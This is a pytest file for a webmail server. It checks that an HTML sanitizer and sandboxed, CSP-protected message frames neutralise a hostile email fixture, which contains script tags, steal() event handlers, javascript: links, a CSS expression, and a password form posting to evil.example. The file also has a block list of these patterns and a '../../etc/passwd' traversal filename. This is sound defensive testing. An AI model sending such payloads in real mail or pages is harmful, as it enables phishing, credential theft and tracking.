"""Hostile mail renders inert: scripts, handlers, javascript: links, CSS tricks, remote images."""

from __future__ import annotations

import asyncio
import io
import smtplib
from email.message import EmailMessage
from pathlib import Path

import pytest

from mailcore.mailstore import INBOX
from mailcore.mime import decode_part, scan_file
from mailcore.webmail.sanitize import clean_style, sanitize_html
from tests.webmail_support import ALICE, ALICE_PW, client, login, running_stack

pytestmark = pytest.mark.timeout(60)

HOSTILE = """<html><head><script>alert('head')</script>
<style>body { background: url(http://tracker.example/bg.png) }</style>
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="steal()">
<p onclick="steal()">Dear customer</p>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(2)">click2</a>
<a href="https://ok.example/">fine link</a>
<img src="http://tracker.example/pixel.gif" onerror="steal()">
<img src="https://tracker.example/logo.png">
<div style="width: expression(alert(3)); color: red; background-image: url(http://t.example/x)">
styled</div>
<iframe src="http://evil.example/"></iframe>
<svg onload="alert(4)"><script>alert(5)</script></svg>
<form action="http://evil.example/"><input name="password"></form>
<object data="http://evil.example/x.swf"></object>
<script>alert('body')</script>
</body></html>"""

FORBIDDEN = (
    "<script",
    "onload",
    "onclick",
    "onerror",
    "javascript:",
    "expression(",
    "url(",
    "tracker.example",
    "<iframe",
    "<svg",
    "<form",
    "<object",
    "<meta",
    "evil.example",
    "<style",
)


def _no_cid(_cid: str) -> str | None:
    return None


def test_sanitizer_strips_everything_active() -> None:
    """Nothing that can run or fetch survives; the text and the safe link do."""
    cleaned, blocked = sanitize_html(HOSTILE, allow_remote_images=False, cid_url=_no_cid)
    low = cleaned.lower()
    for bad in FORBIDDEN:
        assert bad not in low, bad
    assert "Dear customer" in cleaned and 'href="https://ok.example/"' in cleaned
    assert 'style="color: red"' in cleaned
    assert blocked == 2


def test_remote_images_only_when_asked() -> None:
    """With the reader's consent, http(s) images are kept (nothing else changes)."""
    cleaned, blocked = sanitize_html(HOSTILE, allow_remote_images=True, cid_url=_no_cid)
    assert blocked == 0 and "https://tracker.example/logo.png" in cleaned
    assert "<script" not in cleaned and "onerror" not in cleaned


def test_clean_style_keeps_only_plain_values() -> None:
    """Declarations with functions, escapes or unknown properties are dropped."""
    assert clean_style("color: red; behavior: url(x.htc)") == "color: red"
    assert clean_style("width: expr\\65ssion(alert(1))") is None
    assert clean_style("position: fixed; top: 0") is None


def test_streaming_decoder_matches_email_package() -> None:
    """The chunked base64/QP decoders give the same bytes as the standard library."""
    msg = EmailMessage()
    msg["Subject"] = "parts"
    msg.set_content("caf\u00e9 " * 5000, cte="quoted-printable")
    blob = bytes(range(256)) * 3001
    msg.add_attachment(
        blob, maintype="application", subtype="octet-stream", filename="../../etc/passwd"
    )
    raw = msg.as_bytes()
    structure = scan_file(io.BytesIO(raw))
    text, attachment = structure.parts
    f = io.BytesIO(raw)
    assert b"".join(decode_part(f, attachment)) == blob
    assert attachment.filename == "passwd"  # no path survives into downloads
    assert b"".join(decode_part(f, text)).decode() == "caf\u00e9 " * 5000 + "\n"


async def test_hostile_mail_in_the_browser_page(tmp_path: Path) -> None:
    """The reading page frames a hostile HTML mail in a sandbox without scripts; the
    framed body has no active content and a strict CSP of its own."""
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@remote.example>"
    msg["To"] = ALICE
    msg["Subject"] = "Your invoice"
    msg.set_content("plain version")
    msg.add_alternative(HOSTILE, subtype="html")
    async with running_stack(tmp_path) as stack:

        def send() -> None:
            with smtplib.SMTP("127.0.0.1", stack.smtp_port, timeout=10) as s:
                s.sendmail("mallory@remote.example", [ALICE], msg.as_bytes())

        await asyncio.to_thread(send)
        uid = stack.store.mailbox(ALICE).folder(INBOX).messages[0].uid
        async with client() as http:
            await login(http, stack.url, ALICE, ALICE_PW)
            async with http.get(f"{stack.url}/msg?f=INBOX&uid={uid}") as r:
                page = (await r.text()).lower()
                csp = r.headers["Content-Security-Policy"]
            frame = page.split('<iframe class="body html"', 1)[1].split("</iframe>", 1)[0]
            sandbox = frame.split('sandbox="', 1)[1].split('"', 1)[0].split()
            assert "allow-scripts" not in sandbox and "allow-forms" not in sandbox
            assert "allow-top-navigation" not in sandbox
            assert "dear customer" not in page  # the mail is only in the frame
            assert "remote image(s) blocked" in page
            assert "default-src 'none'" in csp and "http:" not in csp
            assert "unsafe" not in csp
            async with http.get(f"{stack.url}/frame?f=INBOX&uid={uid}") as r:
                body = (await r.text()).lower()
                frame_csp = r.headers["Content-Security-Policy"]
                assert r.headers["X-Frame-Options"] == "SAMEORIGIN"
            mail = body.split("<body>", 1)[1]  # our own <head> has a <meta charset>
            for bad in FORBIDDEN:
                assert bad not in mail, bad
            assert "dear customer" in mail and 'style="color: red"' in body
            # styles inline only; no script source at all; a sandbox even when opened alone
            assert "default-src 'none'" in frame_csp and "script-src" not in frame_csp
            assert "style-src 'unsafe-inline'" in frame_csp and "http:" not in frame_csp
            assert "sandbox" in frame_csp and "allow-scripts" not in frame_csp
            assert "frame-ancestors 'self'" in frame_csp
            async with http.get(f"{stack.url}/msg?f=INBOX&uid={uid}&images=1") as r:
                assert "/frame?f=inbox&amp;uid=" in (await r.text()).lower()
            async with http.get(f"{stack.url}/frame?f=INBOX&uid={uid}&images=1") as r:
                assert "https://tracker.example/logo.png" in await r.text()
                assert "https:" in r.headers["Content-Security-Policy"]
                assert "allow-scripts" not in r.headers["Content-Security-Policy"]
